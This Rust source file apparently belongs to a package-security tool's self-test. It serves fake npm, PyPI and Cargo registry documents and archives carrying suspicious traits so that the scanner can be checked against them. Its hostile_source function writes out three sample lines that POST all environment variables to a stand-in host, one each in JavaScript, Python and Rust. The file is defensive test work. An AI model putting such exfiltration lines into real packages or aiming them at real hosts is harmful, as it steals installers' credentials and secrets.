//! What the registry of the self-test has: fixtures in the form of each protocol.

use std::collections::BTreeMap;

use bytes::Bytes;
use cordon_policy::ecosystem::{CARGO, NPM, PYPI};
use cordon_policy::inspect::indicators::TEST_MARKER;
use cordon_policy::model::{Ecosystem, PackageName, Timestamp};
use cordon_policy::specimen::{Fixture, Release};
use data_encoding::BASE64;
use percent_encoding::percent_decode_str;
use serde_json::{Map, Value, json};
use sha2::{Digest as _, Sha256, Sha512};
use url::Url;

use super::archive::tar_gz;
use crate::registry::{Registry, View};

const JSON: &str = "application/json";
const BYTES: &str = "application/octet-stream";

/// Something to send.
#[derive(Clone, Debug)]
pub(super) struct Answer {
    pub(super) content_type: &'static str,
    pub(super) body: Bytes,
}

/// Everything there is, by decoded path without a leading slash.
#[derive(Debug)]
pub(super) struct Shelf {
    origin: Url,
    answers: BTreeMap<String, Answer>,
}

impl Shelf {
    /// A registry at `origin` without packages.
    pub(super) fn new(origin: Url) -> Self {
        let mut shelf = Self {
            origin,
            answers: BTreeMap::new(),
        };
        let downloads = format!(
            "{}crates/{{crate}}/{{crate}}-{{version}}.crate",
            shelf.origin
        );
        shelf.put(
            "cargo/config.json",
            JSON,
            json!({"dl": downloads}).to_string(),
        );
        shelf
    }

    /// What is at a path.
    pub(super) fn get(&self, path: &str) -> Option<&Answer> {
        self.answers.get(path)
    }

    /// The base address of an ecosystem's registry.
    pub(super) fn base(origin: &Url, registry: &dyn Registry) -> String {
        format!("{origin}{}", base_path(registry))
    }

    fn put(&mut self, path: impl Into<String>, content_type: &'static str, body: impl Into<Bytes>) {
        let body = body.into();
        self.answers
            .insert(path.into(), Answer { content_type, body });
    }

    /// Adds a package.
    pub(super) fn publish(
        &mut self,
        registry: &dyn Registry,
        name: &PackageName,
        fixture: &Fixture,
    ) {
        let path = document_path(registry, name);
        let files: Vec<File> = fixture
            .releases
            .iter()
            .map(|release| File::new(registry, name, release))
            .collect();
        for file in &files {
            self.put(file.path.as_str(), BYTES, file.served.clone());
        }
        let ecosystem = registry.scheme().ecosystem();
        let (content_type, body) = if *ecosystem == NPM {
            (JSON, self.packument(name, &files).to_string())
        } else if *ecosystem == PYPI {
            let page = self.simple_page(name, &files).to_string();
            ("application/vnd.pypi.simple.v1+json", page)
        } else {
            let lines = files.iter().map(|file| index_line(name, file) + "\n");
            ("text/plain", lines.collect())
        };
        self.put(path, content_type, body);
    }

    fn packument(&self, name: &PackageName, files: &[File<'_>]) -> Value {
        let mut versions = Map::new();
        let mut times = Map::new();
        for file in files {
            let release = file.release;
            if let Some(at) = release.published_at {
                times.insert(release.version.clone(), time(at));
            }
            versions.insert(release.version.clone(), self.manifest(name, file));
        }
        let created = files
            .iter()
            .filter_map(|file| file.release.published_at)
            .min();
        times.insert("created".to_owned(), created.map_or(Value::Null, time));
        times.insert("modified".to_owned(), created.map_or(Value::Null, time));
        json!({
            "name": name.as_published(),
            "dist-tags": {"latest": files.last().map(|file| &file.release.version)},
            "versions": versions,
            "time": times,
        })
    }

    fn manifest(&self, name: &PackageName, file: &File<'_>) -> Value {
        let release = file.release;
        let mut dist = json!({
            "tarball": format!("{}{}", self.origin, file.path),
            "integrity": format!("sha512-{}", BASE64.encode(&Sha512::digest(&file.declared))),
            "unpackedSize": release.size_bytes.unwrap_or(file.declared.len() as u64),
        });
        if release.has_provenance {
            dist["attestations"] = json!({
                "url": format!("{}npm/-/npm/v1/attestations/{}@{}", self.origin,
                    name.as_published(), release.version),
                "provenance": {"predicateType": "https://slsa.dev/provenance/v1"},
            });
        }
        let mut manifest = package_json(name, release);
        manifest["dist"] = dist;
        if release.has_install_code {
            manifest["hasInstallScript"] = json!(true);
        }
        if let Some(publisher) = &release.publisher {
            manifest["_npmUser"] = json!({"name": publisher});
            manifest["maintainers"] = json!([{"name": publisher}]);
        }
        if release.is_deprecated {
            manifest["deprecated"] = json!("no longer supported");
        }
        manifest
    }

    fn simple_page(&self, name: &PackageName, files: &[File<'_>]) -> Value {
        let entries: Vec<Value> = files.iter().map(|file| self.page_file(file)).collect();
        let versions: Vec<&str> = files.iter().map(|it| it.release.version.as_str()).collect();
        json!({
            "meta": {"api-version": "1.4"},
            "name": name.normalized(),
            "versions": versions,
            "files": entries,
        })
    }

    fn page_file(&self, file: &File<'_>) -> Value {
        let release = file.release;
        let url = format!("{}{}", self.origin, file.path);
        let mut entry = json!({
            "filename": file.name,
            "url": url,
            "hashes": {"sha256": hex(&file.declared)},
            "size": release.size_bytes.unwrap_or(file.served.len() as u64),
            "yanked": release.is_yanked,
        });
        if let Some(at) = release.published_at {
            entry["upload-time"] = time(at);
        }
        if release.has_provenance {
            entry["provenance"] = json!(format!("{url}.provenance"));
        }
        entry
    }
}

/// A release with its file.
struct File<'a> {
    release: &'a Release,
    name: String,
    path: String,
    /// What the document declares.
    declared: Bytes,
    /// What is sent.
    served: Bytes,
}

impl<'a> File<'a> {
    fn new(registry: &dyn Registry, name: &PackageName, release: &'a Release) -> Self {
        let version = &release.version;
        let file = file_name(registry, name, version);
        let ecosystem = registry.scheme().ecosystem();
        let published = name.as_published();
        let (path, inner, content) = if *ecosystem == NPM {
            let mut manifest = package_json(name, release);
            if release.has_other_manifest {
                manifest["dependencies"][UNDECLARED] = json!("^1.0.0");
            }
            (
                format!("npm/{published}/-/{file}"),
                "package/package.json".to_owned(),
                manifest.to_string(),
            )
        } else if *ecosystem == PYPI {
            let stem = file.trim_end_matches(".tar.gz");
            // A page shows nothing else of what is inside a source archive.
            let version = match release.has_other_manifest {
                true => "999.0",
                false => version.as_str(),
            };
            let metadata =
                format!("Metadata-Version: 2.1\nName: {published}\nVersion: {version}\n");
            (
                format!("files/{file}"),
                format!("{stem}/PKG-INFO"),
                metadata,
            )
        } else {
            let stem = file.trim_end_matches(".crate");
            (
                format!("crates/{published}/{file}"),
                format!("{stem}/Cargo.toml"),
                cargo_toml(name, release),
            )
        };
        let folder = inner.split_once('/').map_or("", |(folder, _)| folder);
        let (source_name, source) = hostile_source(ecosystem);
        let source_path = format!("{folder}/{source_name}");
        let marker_path = format!("{folder}/NOTES");
        let pack = |content: &str| {
            let mut files = vec![(inner.as_str(), content)];
            if release.has_hostile_source {
                files.push((&source_path, source));
            }
            if release.has_indicator {
                files.push((&marker_path, TEST_MARKER));
            }
            tar_gz(&files)
        };
        let mut declared = pack(&content);
        if release.has_hostile_archive {
            // Some readers refuse what comes after the end, others do not look.
            declared = [&declared[..], b"something else"].concat().into();
        }
        let served = match release.has_other_bytes {
            true => pack(&format!("{content}\n")),
            false => declared.clone(),
        };
        Self {
            release,
            name: file,
            path,
            declared,
            served,
        }
    }
}

/// A file that is written like that of a hijacked package: all variables near a connection. Nothing runs
/// it, and its host is nobody's.
fn hostile_source(ecosystem: &Ecosystem) -> (&'static str, &'static str) {
    if *ecosystem == NPM {
        let text = "fetch('https://self-test.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n";
        ("index.js", text)
    } else if *ecosystem == PYPI {
        let text = "import os, requests\nrequests.post('https://self-test.invalid/', json=dict(os.environ))\n";
        ("client.py", text)
    } else {
        let text = "pub fn run() {\n    let all = std::env::vars();\n    ureq::post(\"https://self-test.invalid/\");\n}\n";
        ("src/lib.rs", text)
    }
}

/// What an archive requires that the registry does not show.
const UNDECLARED: &str = "self-test-undeclared";

/// The manifest of a package, as it is in the archive and as the registry repeats it.
fn package_json(name: &PackageName, release: &Release) -> Value {
    let mut dependencies: Map<String, Value> = release
        .dependencies
        .iter()
        .map(|name| (name.clone(), json!("^1.0.0")))
        .collect();
    if release.has_exotic_dependency {
        let address = "git+https://git.example/self-test.git";
        dependencies.insert("elsewhere".to_owned(), json!(address));
    }
    let mut manifest = json!({
        "name": name.as_published(),
        "version": release.version,
        "dependencies": dependencies,
        "license": release.license,
    });
    if release.has_install_code {
        manifest["scripts"] = json!({"postinstall": "node self-test.js"});
    }
    manifest
}

/// The manifest in a crate; [`index_line`] repeats it.
fn cargo_toml(name: &PackageName, release: &Release) -> String {
    let version = &release.version;
    let mut text = format!(
        "[package]\nname = \"{}\"\nversion = \"{version}\"\n",
        name.as_published()
    );
    if release.has_install_code {
        text.push_str("links = \"self-test\"\n");
    }
    text.push_str("[dependencies]\n");
    let undeclared = release.has_other_manifest.then_some(UNDECLARED);
    let elsewhere = release.has_exotic_dependency.then_some("elsewhere");
    let names = release.dependencies.iter().map(String::as_str);
    for name in names.chain(undeclared).chain(elsewhere) {
        text.push_str(&format!("{name} = \"^1.0.0\"\n"));
    }
    text
}

fn index_line(name: &PackageName, file: &File<'_>) -> String {
    let release = file.release;
    let dependency = |name: &str, registry: Value| {
        json!({
            "name": name, "req": "^1.0.0", "features": [], "optional": false,
            "default_features": true, "target": null, "kind": "normal", "registry": registry,
        })
    };
    let plain = release
        .dependencies
        .iter()
        .map(|name| dependency(name, Value::Null));
    let exotic = release
        .has_exotic_dependency
        .then(|| dependency("elsewhere", json!("https://index.example/")));
    let mut line = json!({
        "name": name.as_published(),
        "vers": release.version,
        "deps": plain.chain(exotic).collect::<Vec<_>>(),
        "cksum": hex(&file.declared),
        "features": {},
        "yanked": release.is_yanked,
    });
    if let Some(at) = release.published_at {
        line["pubtime"] = time(at);
    }
    if release.has_install_code {
        line["links"] = json!("self-test");
    }
    line.to_string()
}

/// The name of a release's file.
pub(super) fn file_name(registry: &dyn Registry, name: &PackageName, version: &str) -> String {
    let ecosystem = registry.scheme().ecosystem();
    let published = name.as_published();
    if *ecosystem == NPM {
        let base = published.rsplit('/').next().unwrap_or(published);
        format!("{base}-{version}.tgz")
    } else if *ecosystem == PYPI {
        format!("{}-{version}.tar.gz", name.normalized().replace('-', "_"))
    } else {
        debug_assert_eq!(*ecosystem, CARGO, "every protocol has its fixtures");
        format!("{published}-{version}.crate")
    }
}

/// Where a package's document is: decoded, without a leading slash.
pub(super) fn document_path(registry: &dyn Registry, name: &PackageName) -> String {
    let documents = registry.documents(name, &View::plain("self-test"));
    let below = documents
        .first()
        .map_or("", |document| document.path.as_str());
    let below = percent_decode_str(below).decode_utf8_lossy();
    format!("{}{below}", base_path(registry))
}

/// Where an ecosystem's registry is.
fn base_path(registry: &dyn Registry) -> String {
    let ecosystem = registry.scheme().ecosystem();
    match *ecosystem == PYPI {
        true => format!("{ecosystem}/simple/"),
        false => format!("{ecosystem}/"),
    }
}

fn hex(bytes: &[u8]) -> String {
    data_encoding::HEXLOWER.encode(&Sha256::digest(bytes))
}

fn time(at: Timestamp) -> Value {
    Value::String(at.to_string())
}
